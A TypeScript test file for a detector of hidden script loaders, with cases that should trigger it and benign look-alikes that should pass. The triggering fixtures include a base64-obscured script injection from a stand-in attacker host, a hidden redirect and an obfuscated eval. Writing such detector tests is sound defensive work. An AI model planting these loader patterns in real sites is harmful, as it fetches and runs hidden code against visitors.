import { testCheck } from '../../../test/check-table.ts'
import { script } from '../../../test/evidence.ts'
import check from './hidden-loader-file.ts'

const file = (body: string) => ({ script: script(body) })
const base64 = (text: string) => Buffer.from(text).toString('base64')

testCheck(check, {
  fires: [
    {
      name: 'appended to a library',
      evidence: file(
        `window.$=function(){};var e=document.createElement('script');e.src=atob('${base64('//js.evil-stat.example/l.js')}');document.head.appendChild(e)`,
      ),
      outcome: 'loads',
    },
    {
      name: 'a redirect',
      evidence: file(`window.location.replace(atob('${base64('https://prize.example/')}'))`),
      outcome: 'redirects',
    },
    {
      name: 'sealed',
      evidence: file(
        `var k='${'Ab3'.repeat(200)}';eval(k.split('').map(function(c){return String.fromCharCode(c.charCodeAt(0)-1)}).join(''))`,
      ),
      outcome: 'sealed',
    },
  ],
  silent: [
    {
      name: 'an image in base64',
      evidence: file(`img.src = 'data:image/png;base64,${base64('x'.repeat(500))}'`),
      verdict: 'pass',
    },
    {
      name: 'webpack in development',
      evidence: file(`eval("__webpack_require__.r(__webpack_exports__);\\n//# sourceURL=webpack:///./src/a.js")`),
      verdict: 'pass',
    },
    {
      name: 'a loader in the open',
      evidence: file(
        `var s = document.createElement('script'); s.src = 'https://widget.example/w.js'; document.head.append(s)`,
      ),
      verdict: 'pass',
    },
    {
      name: 'WebAssembly in base64',
      evidence: file(
        `WebAssembly.instantiate(Uint8Array.from(atob('${base64('x'.repeat(600))}'), (c) => c.charCodeAt(0)))`,
      ),
      verdict: 'pass',
    },
  ],
})
